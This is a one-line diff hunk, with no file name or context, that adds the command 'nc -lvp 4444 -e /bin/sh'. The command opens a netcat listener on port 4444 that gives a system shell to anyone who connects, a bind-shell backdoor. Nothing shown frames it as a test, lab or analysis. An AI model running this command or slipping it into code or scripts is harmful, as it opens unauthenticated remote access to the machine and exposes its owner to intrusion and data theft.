@@ -1,0 +1,1 @@
+nc -lvp 4444 -e /bin/sh
